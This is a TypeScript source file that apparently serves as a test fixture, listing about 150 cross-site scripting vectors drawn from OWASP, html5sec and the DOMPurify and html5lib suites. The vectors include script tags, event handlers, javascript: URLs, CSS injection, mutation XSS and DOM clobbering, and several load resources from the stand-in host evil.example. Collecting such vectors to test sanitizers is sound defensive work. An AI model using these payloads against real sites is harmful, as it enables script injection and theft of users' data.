/**
 * What attacks a page that shows captured HTML: known vectors, written anew here in their shortest form. Families and where they are described:
 * OWASP Cross Site Scripting Filter Evasion Cheat Sheet (handlers, schemes, encodings); html5sec.org, H1 to H146 (elements with handlers, SVG, MathML); the
 * cases of html5lib's tree construction for raw text, foreign content and misnested tables; those of DOMPurify's suite for mutation (mXSS: Heiderich
 * and others, CCS 2013; Bentkowski 2019 and 2020), clobbering and templates. Each calls `hit()` if it is ever run.
 */
export const PAYLOADS: readonly string[] = [
  // Scripts.
  '<script>hit()</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script/src=data:,hit()></script>', '<scr<script>ipt>hit()</scr</script>ipt>', '<script type="module">hit()</script>', '<script x>hit()</script y>',
  '<svg><script>hit()</script></svg>', '<svg><script>&#104;it()</script>', '<svg><script href="data:,hit()"/></svg>', '<math><script>hit()</script></math>', '<script>\n<!--\nhit()\n//-->\n</script>', '"><script>hit()</script>', "'-hit()-'", '</title><script>hit()</script>',
  '</textarea><script>hit()</script>', '<noscript><p title="</noscript><script>hit()</script>">', '<!--><script>hit()</script>-->', '<![CDATA[<script>hit()</script>]]>', '<?xml version="1.0"?><script>hit()</script>', '<xmp><script>hit()</script></xmp>', '<plaintext><script>hit()</script>',
  // Handlers.
  '<img src=x onerror=hit()>', '<img src=x onerror="hit()"//', '<img """><img src=x onerror=hit()>', '<IMG SRC=x OnErRoR=hit()>', '<img/src/onerror=hit()>', '<img src=x\nonerror\n=\nhit()>', '<svg onload=hit()>', '<svg/onload=hit()>', '<svg><g onload=hit()></g></svg>', '<body onload=hit()>',
  '<input autofocus onfocus=hit()>', '<select autofocus onfocus=hit()>', '<textarea autofocus onfocus=hit()>', '<video><source onerror=hit()></video>', '<video poster=x onerror=hit() src=x>', '<audio src=x onerror=hit()>', '<details open ontoggle=hit()>', '<marquee onstart=hit()>x</marquee>',
  '<object data=x onerror=hit()>', '<embed src=x onerror=hit()>', '<iframe onload=hit()></iframe>', '<frameset onload=hit()>', '<style onload=hit()></style>', '<link rel=stylesheet href=x onerror=hit()>', '<div onpointerover=hit() style=position:fixed;inset:0>x</div>', '<b onbeforescriptexecute=hit()>x</b>',
  '<p style="animation:x" onanimationstart=hit()>x</p><style>@keyframes x{}</style>', '<xss id=x tabindex=1 onfocus=hit()></xss>', '<button popovertarget=x>y</button><p popover id=x onbeforetoggle=hit()>x</p>', '<img src=1 href=1 onerror="javascript:hit()">', '<image src=x onerror=hit()>',
  // Addresses that run.
  '<a href="javascript:hit()">x</a>', '<a href="JaVaScRiPt:hit()">x</a>', '<a href="java\tscript:hit()">x</a>', '<a href="&#106;avascript:hit()">x</a>', '<a href="\u0001javascript:hit()">x</a>', '<a href="data:text/html,<script>hit()</script>">x</a>', '<a href="vbscript:hit()">x</a>',
  '<iframe src="javascript:hit()"></iframe>', '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', '<form action="javascript:hit()"><button>x</button></form>', '<button formaction="javascript:hit()">x</button>', '<object data="javascript:hit()">', '<embed src="javascript:hit()">',
  '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>', '<svg><animate xlink:href=#x attributeName=href values=javascript:hit() /><a id=x><text>x</text></a></svg>', '<math href="javascript:hit()">x</math>', '<base href="javascript:hit()//">', '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x"/></svg>', '<svg><set attributeName=onmouseover to=hit() /></svg>',
  // Styles.
  '<style>*{background:url(//evil.example/x)}</style>', '<style>@import "//evil.example/x.css";</style>', '<div style="background:url(javascript:hit())">x</div>', '<div style="width:expression(hit())">x</div>', '<link rel=stylesheet href=//evil.example/x.css>', '<style><img src="</style><img src=x onerror=hit()>">',
  '<p style="position:fixed;inset:0;background:red">x</p>', '<svg><style><img src=x onerror=hit()></style></svg>',
  // Mutation: what is harmless when it is taken apart and harmful when it was written and taken apart again.
  '<svg></p><style><a id="</style><img src=1 onerror=hit()>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>', '<math><mi><table><mglyph><style><math><img src onerror=hit()></style>',
  '<svg><![CDATA[><img src=x onerror=hit()>]]></svg>', '<listing>&lt;img src=x onerror=hit()&gt;</listing>', '<noembed><img title="</noembed><img src=x onerror=hit()>"></noembed>', '<noframes><style></noframes><img src=x onerror=hit()></style></noframes>', '<table><td><select><option><svg><style><img src=x onerror=hit()>',
  '<template><img src=x onerror=hit()></template>', '<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>', '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>', '<svg><desc><noscript><img title="</noscript><img src=x onerror=hit()>"></svg>', '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>',
  '<a/href="`"onmouseover=hit()//`">x</a>', '<p id="\u2028<img src=x onerror=hit()>">x</p>', '<img src=`x`onerror=hit()>', '\uFF1Cscript\uFF1Ehit()\uFF1C/script\uFF1E', '+ADw-script+AD4-hit()+ADw-/script+AD4-', '&lt;script&gt;hit()&lt;/script&gt;', '&amp;lt;img src=x onerror=hit()&amp;gt;', '%3Cscript%3Ehit()%3C/script%3E',
  '<select><template><img src=x onerror=hit()></template></select>', '<b><table><b><img src=x onerror=hit()></table>', '<frameset><noframes><img src=x onerror=hit()>', '<title><img src=x onerror=hit()></title>', '<head><base href=//evil.example/><a href=x>x</a>',
  // Names that stand in the way of scripts, words of templates, and what turns lines around.
  '<form id=document><input name=cookie></form>', '<img name=getElementById>', '<form><input name=attributes><input name=parentNode></form>', '<a id=location href=//evil.example>x</a>', '{{constructor.constructor("hit()")()}}', '$\u007Bhit()}', '<%= hit() %>', '{{7*7}}', '\u202Etpircs\u202C<img src=x onerror=hit()>', '\u0000<img src=x onerror=hit()>',
  '<isindex type=image src=x onerror=hit()>', '<keygen autofocus onfocus=hit()>', '<dialog open onclose=hit()><form method=dialog><button autofocus>x</button></form></dialog>', '<portal src=javascript:hit()>', '<object classid=x><param name=movie value=javascript:hit()></object>',
];
